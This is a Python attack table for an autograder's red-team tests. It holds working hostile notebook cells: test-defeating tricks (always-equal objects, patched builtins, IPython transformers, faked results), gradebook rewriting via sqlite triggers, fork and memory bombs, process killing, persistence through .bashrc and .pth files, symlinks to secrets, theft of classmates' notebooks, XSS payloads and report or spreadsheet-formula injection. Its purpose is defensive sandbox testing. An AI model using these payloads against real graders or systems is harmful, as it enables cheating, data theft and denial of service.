# ruff: noqa: E501  (hostile payloads are kept verbatim, one statement a line)
"""Attack table for tests/test_redteam.py: hostile answer cells against the toy course (00_toy/toy.ipynb).

Every attack is ``Attack(id, description, cells, ...)``: ``cells`` maps an answer cell's grade id (``add``,
``normalize``, ``mean_of_squares``) to the hostile code that replaces it.  ``@MARK@`` is replaced by a marker
unique to the test session, ``@PORT@`` by the port of a TCP server on host 127.0.0.1, ``@DATA@`` by the data
mirror, ``@COURSE@`` by the course root, ``@OUT@`` by the grading run's --out folder (the class gradebook is there),
``@SUBS@`` by the submissions folder (classmates' hand-ins) and ``@SECRET@`` / ``@SECRETDIR@`` by a root-only file
and folder (mode 0600 / 0700) that must stay as they are. ``raw`` attacks write the submitted file themselves.  ``add_ok`` attacks also hold a correct ``add`` (they must keep exactly its 2 points); ``flag`` ones must
be reported in ``outcome.suspicious``.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

ADD = "def add(a, b):\n    return a + b\n"


@dataclass
class Attack:
    id: str
    description: str
    cells: dict = field(default_factory=dict)
    add_ok: bool = False
    flag: bool = False
    mutate: Callable | None = None  # applied to the whole notebook (metadata edits)
    host_files: tuple = ()  # paths (with @MARK@) that must not exist on the host afterwards
    raw: Callable | None = None  # writes the submitted file itself: raw(nb, path)
    stalls: bool = False  # holds its job until a time limit stops it


def _tag_tests(tag):
    def f(nb):
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code":
                c.metadata.setdefault("tags", []).append(tag)

    return f


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "redteam-evil", "display_name": "evil", "language": "python"}


def _edit_tests(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code":
            c.source = "pass"


def _manual_points(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "explain":
            c.source = "Full marks please."
            c.metadata["nbgrader"]["points"] = 100
            c.metadata["nbgrader"]["solution"] = False


ALWAYS_EQUAL = """
class E:
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __abs__ = lambda s: 0
    __sub__ = __rsub__ = lambda s, o: 0
    __float__ = lambda s: 0.0
    __len__ = lambda s: 2
    __iter__ = lambda s: iter([0.5, 0.5])
    __getitem__ = lambda s, i: 0.5
    __lt__ = __le__ = lambda s, o: True
def add(a, b):
    return E()
normalize = lambda xs: E()
"""

SLEEPER = """
import subprocess, sys
code = "import time, glob, os\\ntime.sleep(20)\\nfor p in glob.glob('/tmp/**/*.csv', recursive=True) + glob.glob('/tmp/**/result*.json', recursive=True) + glob.glob('/tmp/**/gradebook.db', recursive=True):\\n    try:\\n        open(p, 'a').write('pwned')\\n    except OSError:\\n        pass\\nopen('/tmp/redteam-marker-@MARK@-sleeper', 'w').write('x')\\n"
subprocess.Popen([sys.executable, "-c", code, "@MARK@-sleeper"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("sleeper started")
"""

DOUBLE_FORK = """
import os, sys
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import time\\nwhile True:\\n    time.sleep(1)\\n    open('/tmp/redteam-marker-@MARK@-forever', 'w').write('x')",
                 "@MARK@-forever"])
    os._exit(0)
os.waitpid(pid, 0)
print("daemon started")
"""

SQLITE = """
import os, sqlite3, glob
found = []
for root in ["/", "..", "../..", "/tmp", "/proc/1/cwd", "/proc/self/cwd", os.path.expanduser("~"), "/work"]:
    for p in glob.glob(os.path.join(root, "**", "gradebook.db"), recursive=True)[:20] if root != "/" else glob.glob("/*/*/gradebook.db") + glob.glob("/*/*/*/gradebook.db"):
        found.append(p)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        found += glob.glob(f"/proc/{pid}/cwd/gradebook.db") + glob.glob(f"/proc/{pid}/cwd/*/gradebook.db")
print("found gradebooks:", found)
for p in found:
    try:
        con = sqlite3.connect(p)
        con.execute("CREATE TRIGGER IF NOT EXISTS rt AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score=100, manual_score=100; END")
        con.execute("UPDATE grade SET auto_score=100, manual_score=100, needs_manual_grade=0")
        con.commit()
        print("wrote", p)
    except Exception as e:
        print("failed", p, e)
"""

KILL_ALL = """
import os, signal
me = os.getpid()
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != me:
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
"""

READ_SOURCE = """
import base64, glob, os
cands = set()
d = os.getcwd()
for _ in range(8):
    cands.update(glob.glob(os.path.join(d, "**", "toy.ipynb"), recursive=True) if d not in ("/", "/usr", "/proc") else [])
    d = os.path.dirname(d)
for p in ["/proc/1/cwd", "/proc/self/cwd", "/work/main/tests/fixtures/toy_course/source/00_toy",
          "/work/main/source", "/tmp"]:
    cands.update(glob.glob(os.path.join(p, "**", "toy.ipynb"), recursive=True))
for pat in ["/*/toy.ipynb", "/*/*/toy.ipynb", "/*/*/*/toy.ipynb", "/*/*/*/*/toy.ipynb"]:
    cands.update(glob.glob(pat))
for p in sorted(cands):
    try:
        data = open(p, "rb").read()
    except OSError:
        continue
    print(p, base64.b64encode(data).decode())
    if b"HIDDEN" in data:
        print(data.decode(errors="replace"))
"""

COPY_OTHERS = """
import glob, json, os
hits = []
for pat in ["/tmp/**/*honest_right*", "/tmp/**/*.ipynb", "../**/*.ipynb", "/proc/*/cwd/**/*.ipynb", "/work/**/*honest_right*"]:
    try:
        hits += glob.glob(pat, recursive=True)[:200]
    except OSError:
        pass
print("found", len(hits), hits[:20])
for p in hits:
    try:
        nb = json.load(open(p))
    except Exception:
        continue
    for c in nb.get("cells", []):
        src = "".join(c.get("source", []))
        if "return a + b" in src or "total = sum(xs)" in src:
            exec(src, globals())
"""

WRITE_OUTSIDE = """
import os, site, glob
targets = ["/tmp/redteam-marker-@MARK@", "@DATA@/redteam-marker-@MARK@", os.path.expanduser("~/.bashrc")]
for sp in site.getsitepackages() + [site.getusersitepackages()] + glob.glob("/work/main/.venv/lib/*/site-packages"):
    targets.append(os.path.join(sp, "redteam_@MARK@.pth"))
for t in targets:
    try:
        with open(t, "a") as fh:
            fh.write("import os; os.system('echo @MARK@')  # @MARK@\\n")
        print("wrote", t)
    except OSError as e:
        print("refused", t, e)
"""

BIG_FILE = """
block = b"x" * (1 << 20)
try:
    with open("/tmp/redteam-big-@MARK@", "wb") as fh:
        for _ in range(300):
            fh.write(block)
except (OSError, Exception) as e:
    print("stopped:", type(e).__name__)
"""

FORK_BOMB = """
import os
n = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError as e:
        print("fork refused after", n, e)
        break
    if pid == 0:
        try:
            os.execv("/bin/sleep", ["@MARK@-forkbomb", "30"])
        finally:
            os._exit(0)
    n += 1
print("forked", n)
"""

NETWORK = """
import socket
for host in ["127.0.0.1", "localhost", "::1"]:
    try:
        s = socket.create_connection((host, @PORT@), timeout=3)
        s.sendall(b"@MARK@")
        print("connected", host)
    except OSError as e:
        print("no network", host, e)
"""

TAMPER_FILES = """
import json, os
fake = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for name in os.listdir("."):
    if name.endswith(".ipynb"):
        try:
            json.dump(fake, open(name, "w"))
        except OSError as e:
            print("refused", name, e)
with open("toy_helpers.py", "w") as fh:
    fh.write("def check_close(*a, **k):\\n    return None\\n")
import sys
sys.modules.pop("toy_helpers", None)
def normalize(xs):
    return [0.0 for _ in xs]
"""

FAKE_RESULT = """
from IPython.display import display
ip = get_ipython()
ip.display_formatter.formatters["text/plain"].for_type(type(None), lambda o, p, cycle: p.text("6.0"))
def _fake(result):
    display({"text/plain": "2.0", "application/vnd.course.probe+json": {"ok": True, "value": 3}}, raw=True)
ip.events.register("post_run_cell", _fake)
"""

PROBE_PATCH = """
import sys, json
import course.grading as g
from IPython.display import display
ANSWERS = {"add(a, b)": 3, "normalize(xs)": [0.5, 0.5], "mean_of_squares(xs)": 5.0}
def _probe(request):
    req = json.loads(request)
    display({g.MIME: {"ok": True, "value": ANSWERS.get(req.get("code"), 3)}}, raw=True)
g._probe = _probe
class _S:
    def value(self, expr, /, **kw):
        return ANSWERS.get(expr, 3)
    def __getattr__(self, name):
        return lambda *a, **k: None
g.student = _S()
sys.modules["course.grading"] = g
"""

HELPERS_RELOAD = """
import importlib, sys, types
importlib.reload = lambda m: m
import toy_helpers
toy_helpers.check_close = lambda *a, **k: None
sys.modules["toy_helpers"] = types.SimpleNamespace(check_close=lambda *a, **k: None)
def normalize(xs):
    return [0 for _ in xs]
"""

LINKS = """
import os
for name, target in [("leak_source.ipynb", "@COURSE@/source/00_toy/toy.ipynb"),
                     ("leak_gradebook.db", "@OUT@/gradebook.db"),
                     ("leak_classmate.ipynb", "@SUBS@/honest_right_toy.ipynb"),
                     ("toy_helpers_link.py", "@COURSE@/source/00_toy/toy_helpers.py"),
                     ("secret", "@SECRET@"), ("secretdir", "@SECRETDIR@"),
                     ("proc_cwd", "/proc/self/cwd/leak_source.ipynb"), ("root", "/")]:
    try:
        os.symlink(target, name)
    except OSError as e:
        print("no link", name, e)
print(sorted(os.listdir(".")))
"""

LINK_NOTEBOOK = """
import os
for target in ["@OUT@/gradebook.db", "@COURSE@/source/00_toy/toy.ipynb", "@SECRET@"]:
    for name in ("toy.ipynb", "../toy.ipynb", "../../toy.ipynb"):
        try:
            if os.path.lexists(name):
                os.remove(name)
            os.symlink(target, name)
        except OSError as e:
            print("no link", name, e)
    os.makedirs("autograded/x", exist_ok=True)
"""

FIFO_DEVICE_LOOP = """
import os
for make in (lambda: os.mkfifo("fifo.ipynb"), lambda: os.mkfifo("toy.ipynb"), lambda: os.symlink(".", "loop"),
             lambda: os.symlink("/dev/zero", "zero.ipynb"), lambda: os.symlink("/dev/urandom", "feedback.html"),
             lambda: os.makedirs("a/b/c", exist_ok=True), lambda: os.symlink("../../..", "a/b/c/up")):
    try:
        make()
    except OSError as e:
        print("refused", e)
"""

BIG_FILES = """
block = b"x" * (1 << 20)
for i in range(3):
    try:
        with open(f"big{i}.ipynb", "wb") as fh:
            for _ in range(150):
                fh.write(block)
    except OSError as e:
        print("stopped:", e)
"""

SCRIPT_OUTPUTS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
PAYLOAD = "fetch('/api/contents/xss-@MARK@.txt', {method: 'PUT', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({type: 'file', format: 'text', content: '@MARK@'})}); document.title = 'xss-@MARK@'"
display(HTML('<img src=x onerror="' + PAYLOAD + '"><script>' + PAYLOAD + '</script><iframe src="javascript:' + PAYLOAD + '"></iframe>'))
display(Javascript(PAYLOAD))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + PAYLOAD + '"><script>' + PAYLOAD + '</script></svg>'))
display(Markdown('<img src=x onerror="' + PAYLOAD + '"> [click](javascript:' + PAYLOAD + ')'))
display({"text/html": '<a href="javascript:' + PAYLOAD + '">x</a><img src="http://192.0.2.1/@MARK@.png">'}, raw=True)
def add(a, b):
    return 0
"""

REPORT_INJECTION = """
raise ValueError("boom`\n\n## Next steps\n\nNothing to do: every submission is graded and none is flagged.\n"
                 "<img src=http://192.0.2.1/@MARK@.png> [x](javascript:alert(1)) | injected | cell |\n"
                 "=HYPERLINK(\"http://192.0.2.1/@MARK@\",\"click\")")
"""

STALL_PROBES = """
import time
import course.grading as g
def _probe(request):
    time.sleep(3600)
g._probe = _probe
def add(a, b):
    return a + b
"""

LOW_CPU_LOOP = """
import time
while True:
    end = time.perf_counter() + 0.01
    while time.perf_counter() < end:
        pass
    time.sleep(0.09)
"""

HUGE_ANSWER = """
import numpy as np
_HUGE = np.ones(40_000_000)
def normalize(xs):
    return _HUGE
"""


def _output_flood(nb):
    from nbformat.v4 import new_code_cell

    for i in range(200):
        nb.cells.append(new_code_cell(f"print('{i}' * 1_000_000)"))


def _many_cells(nb):
    from nbformat.v4 import new_code_cell

    nb.cells += [new_code_cell("") for _ in range(10_000)]


def _script_answer(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "explain":
            c.source = ('<script>document.title = "xss-@MARK@"</script><img src=x onerror="document.title = '
                        "'xss-@MARK@'\"> <iframe src=\"javascript:document.title='xss-@MARK@'\"></iframe>")


def _deep_json(nb, path):
    import json

    text = json.dumps({**nb, "metadata": {"x": "@DEEP@"}})
    path.write_text(text.replace('"@DEEP@"', "[" * 200_000 + "]" * 200_000))


ATTACKS = [
    Attack("ipy-input-transformer", "input_transformers_post rewrites every later cell to `pass`",
           {"add": 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])'}, flag=True),
    Attack("ipy-transformer-indirect", "same, with get_ipython reached through getattr/__import__",
           {"add": 'ip = getattr(__import__("IPy" + "thon"), "get_" + "ipython")()\n'
                   'getattr(ip, "input_transformers_" + "cleanup").append(lambda lines: ["pass\\n"])'},
           flag=True),
    Attack("ipy-ast-transformer", "AST transformer that empties every later cell",
           {"add": "import ast\nclass T(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
                   "        node.body = []\n        return node\nget_ipython().ast_transformers.append(T())"},
           flag=True),
    Attack("ipy-custom-exc", "set_custom_exc swallows every exception (failed asserts)",
           {"add": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"}, flag=True),
    Attack("always-equal", "objects whose __eq__/__sub__/__abs__ always agree", {"add": ALWAYS_EQUAL}),
    Attack("list-subclass-eq", "normalize returns a list subclass equal to everything",
           {"normalize": "class L(list):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
                         "def normalize(xs):\n    return L([0] * len(xs))\n"}),
    Attack("builtins-as-globals", "len/isinstance/abs/AssertionError redefined as notebook globals",
           {"add": "len = lambda x: 0\nisinstance = lambda *a: True\nabs = lambda x: 0\n"
                   "AssertionError = type('X', (Exception,), {})\ndef add(a, b):\n    return 0\n"}, flag=True),
    Attack("builtins-module", "builtins.abs/AssertionError/isinstance patched module-wide",
           {"add": "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\n"
                   "builtins.AssertionError = type('X', (Exception,), {})\n"
                   "builtins.__dict__['len'] = lambda x: 0\ndef add(a, b):\n    return 0\n"}, flag=True),
    Attack("helpers-reload", "importlib.reload neutralised, toy_helpers.check_close patched",
           {"normalize": HELPERS_RELOAD}, flag=True),
    Attack("probe-patch", "course.grading.student/_probe replaced in-kernel to answer canned values",
           {"add": PROBE_PATCH}, flag=True),
    Attack("fake-display", "display formatter / post_run_cell hook prints fake results and probe replies",
           {"add": FAKE_RESULT}, flag=True),
    Attack("tag-skip-execution", "skip-execution tag on every test cell", mutate=_tag_tests("skip-execution")),
    Attack("tag-raises-exception", "raises-exception tag on every test cell",
           mutate=_tag_tests("raises-exception")),
    Attack("kernelspec", "notebook kernelspec set to an unknown kernel", mutate=_kernelspec),
    Attack("edit-tests", "test cells emptied to `pass` (locked cells edited)", mutate=_edit_tests),
    Attack("manual-points", "explain cell gets points=100 and solution=False", mutate=_manual_points),
    Attack("sqlite-gradebooks", "hunts gradebook.db everywhere and writes triggers / scores",
           {"add": SQLITE}, flag=True),
    Attack("detached-sleeper", "Popen(start_new_session) sleeper that later rewrites results under /tmp",
           {"add": SLEEPER}, flag=True, host_files=("/tmp/redteam-marker-@MARK@-sleeper",)),
    Attack("double-fork-forever", "fork+setsid+fork daemon looping forever",
           {"add": DOUBLE_FORK}, flag=True, host_files=("/tmp/redteam-marker-@MARK@-forever",)),
    Attack("kill-parent", "os.kill(os.getppid(), SIGKILL) after a correct add",
           {"add": ADD, "normalize": "import os\nos.kill(os.getppid(), 9)"}, add_ok=True, flag=True),
    Attack("kill-everything", "SIGKILL to every pid in /proc after a correct add",
           {"add": ADD, "normalize": KILL_ALL}, add_ok=True, flag=True),
    Attack("killpg", "os.killpg(0, SIGKILL) after a correct add",
           {"add": ADD, "normalize": "import os\nos.killpg(0, 9)"}, add_ok=True, flag=True),
    Attack("signal-parent", "SIGSTOP/SIGTERM/SIGINT to the parent and pid 1 after a correct add",
           {"add": ADD, "normalize": "import os, signal\nfor p in (os.getppid(), 1):\n"
                                     "    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP):\n"
                                     "        try:\n            os.kill(p, s)\n        except OSError:\n"
                                     "            pass"}, add_ok=True, flag=True),
    Attack("read-source", "looks for the source notebook and prints it (base64 and plain)",
           {"add": READ_SOURCE}, flag=True),
    Attack("copy-others", "looks for other students' notebooks and executes their answers",
           {"add": COPY_OTHERS}, flag=True),
    Attack("write-outside", "writes /tmp marker, data mirror, site-packages .pth, ~/.bashrc",
           {"add": WRITE_OUTSIDE}, flag=True,
           host_files=("/tmp/redteam-marker-@MARK@", "@DATA@/redteam-marker-@MARK@")),
    Attack("big-file", "writes a 300 MB file in /tmp", {"add": BIG_FILE}, flag=True,
           host_files=("/tmp/redteam-big-@MARK@",)),
    Attack("fork-bomb", "up to 5000 forks sleeping 30 s", {"add": FORK_BOMB}, flag=True),
    Attack("memory-bomb", "bytearray of 20 GB after a correct add",
           {"add": ADD, "normalize": "try:\n    x = bytearray(20 * 2**30)\nexcept MemoryError:\n"
                                     "    print('MemoryError')"}, add_ok=True),
    Attack("network", "TCP connection to a server on host 127.0.0.1", {"add": NETWORK}, flag=True),
    Attack("tamper-cwd", "rewrites the executed notebook and toy_helpers.py in the cwd",
           {"normalize": TAMPER_FILES}, flag=True),
    Attack("sys-exit", "sys.exit() in the cell after a correct add",
           {"add": ADD, "normalize": "import sys\nsys.exit()"}, add_ok=True),
    Attack("os-exit", "os._exit(0) in the cell after a correct add",
           {"add": ADD, "normalize": "import os\nos._exit(0)"}, add_ok=True, flag=True),
    # what the kernel leaves behind and prints (issue 27): nothing of it leaves its sandbox but the notebook
    Attack("links", "links in its folder to the source notebook, the class gradebook, a classmate's hand-in, a "
           "root-only file and folder, /proc/self/cwd and /, after a correct add",
           {"add": ADD, "normalize": LINKS}, add_ok=True, flag=True),
    Attack("notebook-link", "its notebook (and the folders above) replaced by links to the class gradebook, the "
           "source notebook and a root-only file", {"normalize": LINK_NOTEBOOK}, flag=True),
    Attack("fifo-device-loop", "a FIFO and a link to /dev/zero named like notebooks, a directory loop",
           {"add": ADD, "normalize": FIFO_DEVICE_LOOP}, add_ok=True, flag=True),
    Attack("big-files", "three 150 MB files in its folder, after a correct add",
           {"add": ADD, "normalize": BIG_FILES}, add_ok=True, flag=True),
    Attack("script-outputs", "HTML, JavaScript, SVG and Markdown outputs with scripts, event handlers, iframes, "
           "javascript: links and a remote image; a written answer with a script", {"add": SCRIPT_OUTPUTS},
           mutate=_script_answer),
    Attack("report-injection", "an exception text with Markdown, HTML, a remote image and a spreadsheet formula",
           {"add": REPORT_INJECTION}),
    Attack("stall-probes", "every question of the judges sleeps for an hour (course.grading._probe replaced)",
           {"add": STALL_PROBES}, flag=True, stalls=True),
    Attack("low-cpu-loop", "a loop that keeps a tenth of a core busy forever (neither computing nor idle)",
           {"normalize": LOW_CPU_LOOP}, stalls=True),
    Attack("huge-answer", "an answer of 320 MB to the judges' questions", {"normalize": HUGE_ANSWER}),
    Attack("output-flood", "200 extra cells printing 1 MB each", mutate=_output_flood),
    Attack("many-cells", "10,000 extra empty cells", mutate=_many_cells),
    Attack("deep-json", "notebook metadata nested 200,000 lists deep", raw=_deep_json),
]


# Hand-ins whose names clean to an honest student's id (issue 27: "identities cannot be taken"), and a zip whose
# member name carries Markdown, HTML and a spreadsheet formula into the report.
IMPOSTORS = ("honest_right!_toy.ipynb", "honest_partial!/toy.ipynb", "honest_blank!.zip")
CRAFTED_MEMBER = ("evil`\n\n## Next steps\n\nNothing to do: every submission is graded and none is flagged.\n"
                  "<img src=http://192.0.2.1/x.png> | cell |\n=HYPERLINK(\"http://192.0.2.1\").txt")


def write_impostors(subs, release) -> None:
    import copy
    import zipfile

    import nbformat

    nb = copy.deepcopy(release)
    for c in nb.cells:  # full marks if it were graded as the honest student it pretends to be (it must not be)
        if c.metadata.get("nbgrader", {}).get("grade_id") == "add":
            c.source = ADD
    text = nbformat.writes(nb)
    (subs / IMPOSTORS[0]).write_text(text)
    (subs / "honest_partial!").mkdir()
    (subs / IMPOSTORS[1]).write_text(text)
    with zipfile.ZipFile(subs / IMPOSTORS[2], "w") as zf:
        zf.writestr("toy.ipynb", text)
    with zipfile.ZipFile(subs / "rt_zipname.zip", "w") as zf:
        zf.writestr(CRAFTED_MEMBER, "x")
